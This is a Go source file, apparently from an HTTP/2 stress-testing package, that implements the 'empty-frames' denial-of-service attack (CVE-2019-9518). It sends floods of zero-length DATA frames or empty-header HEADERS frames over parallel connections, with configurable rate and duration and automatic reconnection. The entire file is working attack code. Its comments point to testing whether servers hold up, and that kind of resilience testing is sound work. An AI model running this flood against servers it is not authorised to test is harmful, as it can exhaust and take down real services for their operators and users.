package h2attack

import (
	"context"
	"fmt"
	"time"

	"golang.org/x/net/http2"
)

// EmptyFramesParams: empty-frames (CVE-2019-9518) sends frames that carry
// nothing: zero-length DATA frames without END_STREAM on one open stream
// (kind "data"), or new streams whose HEADERS hold an empty header block
// (kind "headers"). Each costs the server a frame's processing and gives it
// no work to show for it. A healthy server spends little per frame, or
// closes a connection that sends many empty frames in a row.
type EmptyFramesParams struct {
	// Connections attacking in parallel. Default 1.
	Connections int `yaml:"connections"`
	// Reconnect dials again (after 50ms) when the server closes a
	// connection before the time bound, at most 1000 times per
	// connection. Default true.
	Reconnect bool `yaml:"reconnect"`
	// Frames per connection. Default 100000.
	Frames int `yaml:"frames"`
	// Kind is "data" (zero-length DATA on one open stream) or "headers"
	// (a new stream per frame, with an empty header block). Default "data".
	Kind string `yaml:"kind"`
	// Duration bounds the attack. Default 30s.
	Duration time.Duration `yaml:"duration"`
	// Rate is frames per second per connection; 0 = as fast as the
	// connection takes them. In a scenario it is the role's rate. Default 10000.
	Rate float64 `yaml:"-"`
}

// DefaultEmptyFrames returns empty-frames' defaults.
func DefaultEmptyFrames() EmptyFramesParams {
	return EmptyFramesParams{Connections: 1, Reconnect: true, Frames: 100_000, Kind: "data", Duration: 30 * time.Second, Rate: 10_000}
}

func (p *EmptyFramesParams) limits() limits {
	return limits{connections: p.Connections, count: p.Frames, rate: p.Rate, duration: p.Duration}
}

// Validate implements Params.
func (p *EmptyFramesParams) Validate() error {
	if p.Kind != "data" && p.Kind != "headers" {
		return fmt.Errorf("empty-frames: kind must be \"data\" or \"headers\", got %q", p.Kind)
	}
	return p.limits().validate("empty-frames", "frames")
}

// SetRate implements Params.
func (p *EmptyFramesParams) SetRate(r float64) { p.Rate = r }

// Pace implements Params.
func (p *EmptyFramesParams) Pace() float64 { return p.Rate }

// Run implements Params.
func (p *EmptyFramesParams) Run(ctx context.Context, t Target, req Request, report Report) (Result, error) {
	if err := p.Validate(); err != nil {
		return Result{Attack: "empty-frames", Target: t.Addr}, fmt.Errorf("h2attack: %w", err)
	}
	what := "zero-length DATA frames without END_STREAM on one open stream"
	if p.Kind == "headers" {
		what = "HEADERS frames with an empty header block, one new stream each"
	}
	return run(ctx, t, req, spec{noReconnect: !p.Reconnect, name: "empty-frames", lim: p.limits(), describe: what,
		loop: func(ctx context.Context, c *conn) (string, error) {
			if p.Kind == "headers" {
				return c.pace(ctx, p.Frames, p.Rate, func(int) error {
					id, ok := c.newStream()
					if !ok {
						return errIDsExhausted
					}
					return c.send(1, func(fr *http2.Framer) error {
						return fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndHeaders: true, EndStream: true})
					})
				})
			}
			id, err := c.openStream(false)
			if err != nil {
				return "", err
			}
			return c.pace(ctx, p.Frames, p.Rate, func(int) error {
				return c.send(1, func(fr *http2.Framer) error { return fr.WriteData(id, false, nil) })
			})
		}}, report)
}

func init() {
	register(Attack{Name: "empty-frames", Summary: "zero-length DATA frames or empty header blocks (CVE-2019-9518)",
		Params: func() Params { p := DefaultEmptyFrames(); return &p }})
}
